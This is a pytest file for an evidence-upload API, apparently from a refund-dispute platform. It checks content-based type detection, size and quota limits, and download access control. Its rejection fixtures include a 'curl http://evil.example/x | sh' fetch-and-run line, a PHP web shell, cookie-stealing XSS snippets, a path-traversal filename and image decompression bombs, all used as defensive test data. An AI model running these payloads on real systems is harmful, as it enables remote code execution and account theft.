"""Evidence uploads over HTTP: type by content only, 20 MiB while streaming, decompression
bombs, quota, and downloads only for the case's people, as attachments that are never sniffed."""

import hashlib
import io
import zipfile

import pytest
from PIL import Image

from kameng.evidence.models import Evidence

from .conftest import encode, gif_bytes, pattern_image, pdf_bytes, png_bytes, stored_files, video_bytes

MiB = 1024 * 1024


def _frames(n=3):
    return [pattern_image(seed) for seed in range(n)]


ACCEPTED = {
    "png": (lambda: png_bytes(), "image/png"),
    "jpeg": (lambda: encode(pattern_image(), "JPEG", quality=85), "image/jpeg"),
    "webp": (lambda: encode(pattern_image(), "WEBP"), "image/webp"),
    "gif": (gif_bytes, "image/gif"),
    "mp4": (lambda: video_bytes(_frames(), "mp4"), "video/mp4"),
    "webm": (lambda: video_bytes(_frames(), "webm"), "video/webm"),
    "pdf": (lambda: pdf_bytes(), "application/pdf"),
    "utf8_text": (lambda: "客服：请提供截图\n买家：激活码无效，错误代码 0x8007000D\n".encode(), "text/plain"),
    "gbk_text": (lambda: "买家：卡密已被使用，要求退款\r\n".encode("gb18030"), "text/plain"),
    "utf16_text": (lambda: "聊天记录：掉线\n".encode("utf-16"), "text/plain"),
}


@pytest.mark.parametrize("kind", sorted(ACCEPTED))
def test_every_allowed_type_is_accepted_by_content_and_served_back_unaltered(api, buyer, case, upload, kind):
    build, expected_type = ACCEPTED[kind]
    data = build()
    # A misleading name and declared type change nothing: the content decides.
    res = upload(case["id"], buyer, data, name="whatever.dat", declared_type="application/x-msdownload")
    assert res.status_code == 201, res.data
    body = res.data
    assert body["content_type"] == expected_type
    assert body["size"] == len(data)
    assert body["sha256"] == hashlib.sha256(data).hexdigest()
    assert body["source"] == "buyer" and body["category"] == "problem"
    assert set(body) >= {"id", "category", "source", "filename", "content_type", "size", "sha256", "uploaded_at"}

    got = api.client.get(
        f"/api/v1/refunds/{case['id']}/evidence/{body['id']}/file", headers={"Authorization": f"Bearer {buyer.token}"}
    )
    assert got.status_code == 200
    assert b"".join(got.streaming_content) == data  # the original bytes, never altered
    assert got["Content-Type"].startswith(expected_type)
    assert got["X-Content-Type-Options"] == "nosniff"
    assert got["Content-Disposition"].startswith("attachment")


def _zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload.html", "<script>alert(1)</script>")
    return buf.getvalue()


def _ftyp(brand: bytes) -> bytes:
    return b"\x00\x00\x00\x18ftyp" + brand + b"\x00\x00\x00\x00" + brand + b"isom" + b"\x00\x00\x00\x08free"


def _matroska() -> bytes:
    doc = b"\x42\x82\x88matroska"
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(doc)]) + doc + b"\x18\x53\x80\x67\x80"


REJECTED = {
    "html_named_png": (
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        "photo.png",
        "unsupported_type",
    ),
    "html_with_leading_space": (b"\n   <html><script>alert(1)</script></html>", "x.png", "unsupported_type"),
    "svg_named_png": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "chart.png", "unsupported_type"),
    "xml_svg": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"></svg>', "a.png", "unsupported_type"),
    "elf_named_png": (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + b"\x90" * 200, "shot.png", "unsupported_type"),
    "windows_exe_named_jpg": (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
        + b"\x00" * 48
        + b"This program cannot be run in DOS mode.",
        "shot.jpg",
        "unsupported_type",
    ),
    "shell_script_named_png": (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "shot.png", "unsupported_type"),
    "php_named_txt": (b"<?php system($_GET['c']); ?>", "log.txt", "unsupported_type"),
    "zip_named_png": (_zip_bytes(), "shot.png", "unsupported_type"),
    "png_magic_then_garbage": (b"\x89PNG\r\n\x1a\n" + b"not really a png" * 10, "shot.png", "invalid_image"),
    "png_then_html_polyglot": (png_bytes() + b"<html><script>alert(1)</script></html>", "shot.png", "active_content"),
    "png_then_zip_polyglot": (png_bytes() + _zip_bytes(), "shot.png", "polyglot"),
    "png_then_bytes_after_iend": (png_bytes() + b"\x00trailing bytes", "shot.png", "polyglot"),
    "gif_then_zip_polyglot": (gif_bytes() + _zip_bytes(), "a.gif", "polyglot"),
    "gif_then_bytes_after_trailer": (gif_bytes() + b"alert(1);", "a.gif", "polyglot"),
    "jpeg_with_script_in_comment": (
        encode(pattern_image(), "JPEG", comment=b"<script>alert(1)</script>"),
        "a.jpg",
        "active_content",
    ),
    "pdf_with_javascript": (pdf_bytes(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "a.pdf", "active_content"),
    "pdf_with_embedded_file": (pdf_bytes(b"<< /Type /EmbeddedFile /Length 0 >>"), "a.pdf", "active_content"),
    "heic_is_not_mp4": (_ftyp(b"heic"), "a.mp4", "unsupported_type"),
    "m4a_audio_is_not_mp4": (_ftyp(b"M4A "), "a.mp4", "unsupported_type"),
    "mp4_header_without_movie": (_ftyp(b"isom"), "a.mp4", "invalid_video"),
    "matroska_is_not_webm": (_matroska(), "a.webm", "unsupported_type"),
    "binary_text_with_nul": (b"hello\x00world" * 10, "a.txt", "unsupported_type"),
    "empty_file": (b"", "a.txt", "empty_file"),
}


@pytest.mark.parametrize("kind", sorted(REJECTED))
def test_disguised_and_polyglot_files_are_refused_with_nothing_stored(buyer, case, upload, media_root, kind):
    data, name, code = REJECTED[kind]
    before_rows, before_files = Evidence.objects.count(), stored_files(media_root)
    res = upload(case["id"], buyer, data, name=name, declared_type="image/png")
    assert res.status_code == 415, (res.status_code, res.data)
    assert res.data["error"]["type"] == "unsupported_media_type"
    assert res.data["error"]["code"] == code
    assert res.data["error"]["param"] == "file"
    assert Evidence.objects.count() == before_rows
    assert stored_files(media_root) == before_files


def test_a_21_mib_upload_is_refused_413_with_nothing_stored(buyer, case, upload, media_root):
    before_rows, before_files = Evidence.objects.count(), stored_files(media_root)
    res = upload(case["id"], buyer, b"a" * (21 * MiB), name="big.txt")
    assert res.status_code == 413, res.data
    assert res.data["error"]["type"] == "too_large" and res.data["error"]["param"] == "file"
    assert Evidence.objects.count() == before_rows
    assert stored_files(media_root) == before_files


def test_exactly_20_mib_is_accepted(buyer, case, upload):
    line = "2024-05-01 12:00:00 买家：激活码无效\n".encode()
    data = (line * (20 * MiB // len(line) + 1))[: 20 * MiB]
    data = data[: data.rfind(b"\n") + 1].ljust(20 * MiB, b" ")
    res = upload(case["id"], buyer, data, name="chat.txt", category="communication")
    assert res.status_code == 201, res.data
    assert res.data["size"] == 20 * MiB


def test_decompression_bomb_image_is_refused(buyer, case, upload, media_root):
    bomb = encode(Image.new("1", (12000, 12000)), "PNG")  # 144 megapixels in a few dozen KiB
    assert len(bomb) < MiB
    res = upload(case["id"], buyer, bomb, name="bomb.png")
    assert res.status_code == 413, res.data
    assert res.data["error"]["code"] == "image_too_large"
    assert Evidence.objects.filter(uploaded_by__isnull=False).count() == 0


def test_upload_quota_per_case_is_50_files(buyer, merchant, case, upload):
    for i in range(50):
        who = buyer if i % 2 else merchant
        res = upload(case["id"], who, f"第 {i} 条说明\n".encode(), name=f"n{i}.txt", category="communication")
        assert res.status_code == 201, (i, res.data)
    res = upload(case["id"], buyer, b"one too many\n", name="x.txt")
    assert res.status_code == 409
    assert res.data["error"] | {"request_id": None} == {
        "request_id": None,
        "type": "conflict",
        "code": "evidence_quota_exceeded",
        "message": res.data["error"]["message"],
        "param": None,
    }


def test_files_are_stored_under_generated_names_through_the_storage_api(buyer, case, upload, media_root):
    res = upload(case["id"], buyer, png_bytes(), name="../../etc/passwd.png")
    assert res.status_code == 201
    item = Evidence.objects.get(pk=res.data["id"])
    assert res.data["filename"] == "passwd.png"  # shown to people; never a path
    assert item.file.name.startswith("evidence/") and "passwd" not in item.file.name
    assert (media_root / item.file.name).is_file()


def test_evidence_is_served_only_to_the_parties_arbitrators_and_admins(
    api, make_user, buyer, merchant, case, upload, make_listing
):
    res = upload(case["id"], buyer, "截图说明\n".encode(), name="note.png")  # text that claims to be a PNG
    assert res.status_code == 201 and res.data["content_type"] == "text/plain"
    url = f"/api/v1/refunds/{case['id']}/evidence/{res.data['id']}/file"
    other_merchant = make_user("merchant")
    api.post("/shops", {"name": "别家店", "description": "x"}, token=other_merchant.token)
    for user, status in [
        (buyer, 200),
        (merchant, 200),
        (make_user("arbitrator"), 200),
        (make_user("admin"), 200),
        (make_user("buyer"), 404),
        (other_merchant, 404),
    ]:
        got = api.client.get(url, headers={"Authorization": f"Bearer {user.token}"})
        assert got.status_code == status, (user.role, got.status_code)
        if status == 200:
            assert got["X-Content-Type-Options"] == "nosniff"
            # served under its real type, and the download name says so too
            assert got["Content-Type"].startswith("text/plain")
            assert 'filename="note.png.txt"' in got["Content-Disposition"]
    assert api.client.get(url).status_code == 401


def _gif_of_tiny_frames(width: int, height: int, frames: int) -> bytes:
    """A hand-made GIF: a huge canvas and many 1 x 1 frames, a few hundred bytes in all."""
    import struct

    out = bytearray(b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff")
    for _ in range(frames):
        out += b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00" + b"\x02" + b"\x02\x44\x01\x00"
    return bytes(out + b"\x3b")


def test_animated_gif_bomb_is_refused_without_decoding_its_frames(buyer, case, upload):
    sane = _gif_of_tiny_frames(100, 100, 3)
    assert upload(case["id"], buyer, sane, name="ok.gif").status_code == 201
    bomb = _gif_of_tiny_frames(5000, 5000, 40)  # 40 frames of 25 megapixels once decoded
    assert len(bomb) < 1024
    res = upload(case["id"], buyer, bomb, name="bomb.gif")
    assert res.status_code == 413, res.data
    assert res.data["error"]["code"] == "image_too_large"
